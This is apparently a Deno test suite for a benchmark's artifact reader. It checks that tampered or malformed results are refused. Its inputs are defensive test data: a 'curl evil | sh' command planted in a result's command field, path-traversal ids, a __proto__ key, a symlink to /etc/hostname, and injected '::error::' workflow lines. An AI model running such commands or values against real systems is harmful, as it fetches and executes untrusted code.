import { assertEquals, assertMatch } from "@std/assert";
import { dirname, join } from "@std/path";
import { exampleRun } from "../testing/example_run.ts";
import { scenarioIds } from "../scenario/ids.ts";
import type { Result } from "../results/result_schema.ts";
import { exampleBursts } from "../testing/example_bursts.ts";
import { asMeasured, measured } from "../testing/remote.ts";
import { type Artifacts, readArtifacts } from "./result_artifacts.ts";

const runId = "20260105T000000Z-0000000";
const helloRunId = "20260105T000001Z-0000000";
const runIds = { "jwt-mysql": runId, "hello": helloRunId };

/** Returns a result of a run as its job writes it. */
function textOf(implId: string, change: (result: Result) => void = () => {}, id = runId): string {
  const result = exampleRun(id).find(({ impl }) => impl.id === implId)!;
  change(result);
  return JSON.stringify(asMeasured(result));
}

/** Reads a folder of artifacts with these files, after what is added to it. */
async function read(
  files: Record<string, string>,
  add: (folder: string) => Promise<void> = () => Promise.resolve(),
  attempts = 1,
): Promise<Artifacts> {
  const folder = await Deno.makeTempDir();
  try {
    for (const [path, text] of Object.entries(files)) {
      await Deno.mkdir(dirname(join(folder, path)), { recursive: true });
      await Deno.writeTextFile(join(folder, path), text);
    }
    await add(folder);
    return await readArtifacts(folder, { ...measured, runIds, attempts, kind: "result" });
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
}

Deno.test("readArtifacts() takes results at any depth, and the same one twice", async () => {
  const text = textOf("swift");
  const { results, damaged } = await read({
    "result-jwt-mysql-swift.1/swift.json": text,
    [`result-jwt-mysql-swift.1/runs/${runId}/swift.json`]: text,
    "list/impls/even/impl.toml": "no result",
    "result-jwt-mysql-even.1/even.json": textOf("even"),
  });
  assertEquals(results.map(({ result }) => result.impl.id), ["even", "swift"]);
  assertEquals(results[1]?.text, text);
  assertEquals(damaged, []);
});

Deno.test("readArtifacts() takes results of each attempt there was, each of its own run", async () => {
  const files = {
    "result-jwt-mysql-swift.1/swift.json": textOf("swift"),
    "result-jwt-mysql-even.1/even.json": textOf("even", () => {}, "20260105T000100Z-0000000"),
  };
  const none = () => Promise.resolve();
  const { results, damaged } = await read(files, none, 2);
  assertEquals(results.map(({ result }) => result.runId), ["20260105T000100Z-0000000", runId]);
  assertEquals(damaged, []);
  assertEquals((await read(files)).damaged, [
    'Cannot use "result-jwt-mysql-even.1/even.json": it is of run "20260105T000100Z-0000000", ' +
    `expected "${runId}"`,
  ]);
});

/** Returns what is wrong with a file of an artifact; `name` is its path. */
async function problemOf(
  text: string,
  name = "result-jwt-mysql-swift.1/swift.json",
): Promise<string[]> {
  return (await read({ [name]: text })).damaged;
}

Deno.test("readArtifacts() refuses what is of another run, another name, incomplete, or of uncommitted code", async () => {
  const cannot = 'Cannot use "result-jwt-mysql-swift.1/swift.json":';
  const otherId = "20260106T000000Z-0000000";
  assertEquals(await problemOf(textOf("swift", () => {}, otherId)), [
    `${cannot} it is of run "${otherId}", expected "${runId}"`,
  ]);
  assertEquals(await problemOf(textOf("swift"), "result-jwt-mysql-swift.1/even.json"), [
    'Cannot use "result-jwt-mysql-swift.1/even.json": it is the result of "swift", expected a file "swift.json"',
  ]);
  assertEquals(await problemOf(textOf("swift", (result) => result.status = "incomplete")), [
    `${cannot} it is incomplete: its job ended before the measurement did, ` +
    "expected complete or failed",
  ]);
  assertEquals(await problemOf(textOf("swift", ({ plan }) => plan.profile = "smoke")), [
    `${cannot} it was measured with the profile smoke, expected one that is published`,
  ]);
  assertEquals(await problemOf(textOf("swift", ({ provenance }) => provenance.dirty = true)), [
    `${cannot} it was measured with uncommitted changes, expected none`,
  ]);
  const base = textOf("swift", ({ provenance }) => provenance.implCommit = "b".repeat(40));
  assertEquals(await problemOf(base), [
    `${cannot} it was measured as the base of a change, expected the sources of the run's commit`,
  ]);
  const other = textOf("swift", ({ provenance }) => provenance.commit = "1".repeat(40));
  assertEquals(await problemOf(other), [
    `${cannot} it was measured at commit ${
      "1".repeat(40)
    }, expected the run's own, ${measured.commit}`,
  ]);
  const sameStart = textOf("swift", ({ provenance }) => provenance.commit = "0".repeat(39) + "1");
  assertMatch((await problemOf(sameStart)).join(), /at commit 0{39}1, expected the run's own/);
  assertEquals(await problemOf(" ".repeat(11 * 1024 ** 2)), [
    `${cannot} it has 11534336 bytes, expected 2097152 at most`,
  ]);
});

Deno.test("readArtifacts() lets no result decide for the others of its run whether it is ranked, when it was, or what readers are told to run", async () => {
  const cannot = 'Cannot use "result-jwt-mysql-swift.1/swift.json":';
  assertEquals(await problemOf(textOf("swift", ({ plan }) => plan.reproduces = "an-article")), [
    `${cannot} it has the settings of an article, expected the profile's`,
  ]);
  assertEquals(await problemOf(textOf("swift", ({ plan }) => plan.profile = "quick")), [
    `${cannot} it was measured with the profile quick, expected custom`,
  ]);
  assertEquals(await problemOf(textOf("swift", ({ plan }) => plan.startupRuns = 1)), [
    `${cannot} its plan differs from that of the profile custom in "jwt-mysql"`,
  ]);
  const written = textOf("swift").replace(/"command":"[^"]+"/, '"command":"curl evil | sh"');
  assertMatch(
    (await problemOf(written)).join(),
    /its command is "curl evil \| sh", expected "npx rust-just bench swift /,
  );
  for (const startedAt of ["0001-01-01T00:00:00.000Z", "9999-01-01T00:00:00.000Z"]) {
    const moved = textOf("swift").replace(/"startedAt":"[^"]+"/, `"startedAt":"${startedAt}"`);
    assertEquals(await problemOf(moved), [
      `${cannot} it began at ${startedAt}, expected a time between the start of its run and now`,
    ]);
  }
});

Deno.test("readArtifacts() reads the others where a file is too much for what computes figures, or has very many mistakes", async () => {
  const [bursts] = exampleBursts(runId);
  const [step] = bursts!.bursts!.steps;
  step!.users = Number.MAX_SAFE_INTEGER;
  step!.rounds.forEach((round, index) => round.answered = 2 ** (50 + index));
  const { results, damaged } = await read({
    "result-delay-steady.1/steady.json": JSON.stringify(bursts),
    "result-jwt-mysql-even.1/even.json": `{"levels":[${"1,".repeat(9_999)}1]}`,
    "result-jwt-mysql-swift.1/swift.json": textOf("swift"),
  });
  assertEquals(results.map(({ result }) => result.impl.id), ["swift"]);
  assertEquals(damaged.length, 2);
  assertMatch(damaged[0]!, /^Cannot use "result-delay-steady.1\/steady.json": /);
  assertMatch(damaged[1]!, /^Cannot parse "result-jwt-mysql-even.1\/even.json": /);
});

Deno.test("readArtifacts() takes no result of one implementation from the artifact of another", async () => {
  const own = textOf("swift");
  const other = textOf("swift", (result) => result.buildSeconds = 1);
  const expected =
    'it is the result of "swift" in "jwt-mysql", expected one in an artifact "result-jwt-mysql-swift.1"';
  const { results, damaged } = await read({
    [`result-jwt-mysql-swift.1/${runId}/swift.json`]: own,
    "result-jwt-mysql-even.1/swift.json": other,
    "result-jwt-mysql-even.1/result-jwt-mysql-swift.1/swift.json": other,
    "rerun-jwt-mysql-swift.1/swift.json": other,
    // What is downloaded alone is not put into a folder of its name.
    "swift.json": other,
    [`${runId}/swift.json`]: other,
  });
  assertEquals(results.map(({ text }) => text), [own]);
  assertEquals(damaged, [
    `Cannot use "${runId}/swift.json": ${expected}`,
    `Cannot use "rerun-jwt-mysql-swift.1/swift.json": ${expected}`,
    `Cannot use "result-jwt-mysql-even.1/result-jwt-mysql-swift.1/swift.json": ${expected}`,
    `Cannot use "result-jwt-mysql-even.1/swift.json": ${expected}`,
    `Cannot use "swift.json": ${expected}`,
  ]);
});

Deno.test("readArtifacts() takes the result of each scenario, of that scenario's run and artifact only", async () => {
  const hello = (id: string) => textOf("swift", (result) => result.scenario = "hello", id);
  const jwt = textOf("swift");
  const { results, damaged } = await read({
    "result-jwt-mysql-swift.1/swift.json": jwt,
    "result-hello-swift.1/swift.json": hello(helloRunId),
    // What code of an implementation could write, to get into the run of another scenario.
    [`result-hello-swift.1/${runId}/swift.json`]: hello(runId),
    "result-hello-swift.1/jwt-mysql/swift.json": jwt,
  });
  assertEquals(results.map(({ result }) => [result.scenario, result.runId]), [
    ["hello", helloRunId],
    ["jwt-mysql", runId],
  ]);
  assertEquals(damaged, [
    `Cannot use "result-hello-swift.1/${runId}/swift.json": it is of run "${runId}", expected "${helloRunId}"`,
    'Cannot use "result-hello-swift.1/jwt-mysql/swift.json": it is the result of "swift" in "jwt-mysql", ' +
    'expected one in an artifact "result-jwt-mysql-swift.1"',
  ]);
});

Deno.test("the name of an artifact is of one scenario and implementation: no scenario's begins with another's", () => {
  for (const id of scenarioIds) {
    assertEquals(scenarioIds.filter((other) => other.startsWith(`${id}-`)), [], id);
  }
});

Deno.test("readArtifacts() refuses both of two results of one artifact that differ", async () => {
  const { results, damaged } = await read({
    [`result-jwt-mysql-swift.1/${runId}/swift.json`]: textOf("swift"),
    "result-jwt-mysql-swift.1/swift.json": textOf("swift", (result) => result.buildSeconds = 1),
  });
  assertEquals(results, []);
  assertEquals(damaged, [
    `Cannot use "swift": "result-jwt-mysql-swift.1/${runId}/swift.json" and "result-jwt-mysql-swift.1/swift.json" ` +
    "differ, expected one result",
  ]);
});

Deno.test("readArtifacts() follows no link, and names an artifact that is empty", async () => {
  const files = { "result-jwt-mysql-swift.1/swift.json": textOf("swift") };
  const { results, damaged } = await read(files, async (folder) => {
    await Deno.mkdir(join(folder, "result-jwt-mysql-even.1"));
    await Deno.mkdir(join(folder, "result-jwt-mysql-linked.1"));
    await Deno.symlink("/etc/hostname", join(folder, "result-jwt-mysql-linked.1/linked.json"));
  });
  assertEquals(results.map(({ result }) => result.impl.id), ["swift"]);
  assertEquals(damaged, [
    'Cannot use "result-jwt-mysql-even.1": it holds no file, expected a result',
    'Cannot use "result-jwt-mysql-linked.1/linked.json": it is not a file, expected a result',
  ]);
});

Deno.test("readArtifacts() refuses a result that is cut, has NaN or a number without bounds, is of another schema, or climbs", async () => {
  const text = textOf("swift");
  const cases: [string, RegExp][] = [
    [text.slice(0, text.length / 2), /^Cannot parse/],
    [text.replace(/"attempted":\d+/, '"attempted":NaN'), /^Cannot parse .*is not valid JSON/],
    [text.replace(/"attempted":\d+/, '"attempted":1e999'), /attempted": Invalid input/],
    [text.replace('"schemaVersion":1', '"schemaVersion":2'), /schemaVersion is 2, expected 1$/],
    [
      text.replace('"id":"swift"', '"id":"../../../README"'),
      /key "impl.id": expected a lower-case/,
    ],
    [textOf("swift", () => {}, runId).replace(runId, "../.."), /key "runId": expected a UTC start/],
    [text.replace('"impl":', '"__proto__":{"status":"complete"},"impl":'), /Unrecognized key/],
  ];
  for (const [damaged, message] of cases) {
    const [problem, ...others] = await problemOf(damaged);
    assertMatch(problem ?? "", message);
    assertEquals(others, []);
  }
});

Deno.test("readArtifacts() reads nothing of a file of 100 MB, of very many files, or of what is very deep", async () => {
  const { results, damaged } = await read({}, async (folder) => {
    const at = (name: string) => join(folder, `result-jwt-mysql-${name}`);
    for (const name of ["big", "deep", "many"]) await Deno.mkdir(at(name));
    await Deno.writeFile(join(at("big"), "big.json"), new Uint8Array());
    await Deno.truncate(join(at("big"), "big.json"), 100_000_000);
    await Deno.mkdir(join(at("deep"), "a/".repeat(200)), { recursive: true });
    for (let index = 0; index < 30; index++) {
      await Deno.writeTextFile(join(at("many"), `${index}.json`), textOf("swift"));
    }
  });
  assertEquals(results, []);
  assertEquals(damaged, [
    'Cannot use "result-jwt-mysql-big/big.json": it has 100000000 bytes, expected 2097152 at most',
    'Cannot use "result-jwt-mysql-deep/a/a/a/a/a/a": it is not a file, expected a result',
    'Cannot use "result-jwt-mysql-many": it holds more than 20 files, expected one',
  ]);
});

Deno.test("readArtifacts() finds nothing where no job has left anything", async () => {
  const { results, damaged } = await readArtifacts("/no such folder", {
    ...{ ...measured, runIds, attempts: 1, kind: "result" },
  });
  assertEquals([results, damaged], [[], []]);
});

Deno.test("readArtifacts() says what is wrong in one short line, whatever a stranger wrote", async () => {
  const key = "\n::error::gotcha\r\n" + "x".repeat(5_000);
  for (const text of ["\n::error::gotcha\n{", JSON.stringify({ [key]: 1 })]) {
    const { damaged: [problem, ...others] } = await read({ "a\n::error::/swift.json": text });
    assertEquals(others, []);
    assertEquals(problem!.split(/\s*[\r\n]/).length, 1, problem);
    assertEquals(problem!.startsWith('Cannot parse "a ::error::/swift.json"'), true, problem);
    assertEquals(problem!.length <= 1_001, true);
  }
});
